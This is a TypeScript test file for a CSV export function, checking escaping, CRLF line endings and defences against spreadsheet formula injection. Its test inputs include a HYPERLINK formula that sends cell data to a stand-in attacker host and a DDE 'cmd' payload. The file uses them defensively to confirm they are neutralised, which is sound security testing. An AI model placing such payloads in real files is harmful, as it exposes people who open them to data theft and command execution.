import assert from 'node:assert/strict';
import { toCsv } from '../../../src/core/exchange/csv';
import { rowsOf } from '../../support/csv';

/** What an independent reader finds in the one cell. */
const readBack = (text: string): string => {
  return rowsOf(toCsv(['text'], [[text]]))[0]?.['text'] ?? '';
};

describe('a table as CSV', () => {
  it('keeps commas, quotes, line breaks and any script', () => {
    for (const text of [
      'a, b',
      'She said “no”, "twice"',
      'one\ntwo\r\nthree',
      'Ærlig talt 😀',
      ' spaced ',
      '\u00A0',
      '\uFEFFmarked',
      '"',
      '',
    ]) {
      assert.equal(readBack(text), text);
    }
  });

  it('ends every line with CRLF, and starts with the header, without a byte order mark', () => {
    assert.equal(toCsv(['a', 'b'], [['x', 1]]), 'a,b\r\nx,1\r\n');
  });

  it('takes the force out of what a spreadsheet would run', () => {
    for (const text of [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1)',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '＝1+1',
    ]) {
      assert.equal(readBack(text), `'${text}`);
      assert.match(toCsv(['text'], [[text]]), /\r\n"'/, 'in quotes, so that no separator ends the cell');
    }
  });

  it('does so behind what parts cells where numbers have a decimal comma, too', () => {
    assert.equal(readBack(`Yes;=HYPERLINK(1);+1;@SUM(1);-2+3;`), `Yes;'=HYPERLINK(1);'+1;'@SUM(1);'-2+3;`);
    assert.equal(readBack(';＝1'), ";'＝1");
    assert.equal(readBack('one\n=1\r\n+1\t@A'), "one\n'=1\r\n'+1\t'@A");
    for (const text of ['Nice ;-)', 'To do:\n- one\n- two', 'a; b']) assert.equal(readBack(text), text);
  });

  it('leaves numbers and harmless texts alone', () => {
    assert.equal(toCsv(['n'], [[-1]]), 'n\r\n-1\r\n');
    for (const text of ['a=b', 'minus - sign', '1+1', "it's"]) assert.equal(readBack(text), text);
  });
});
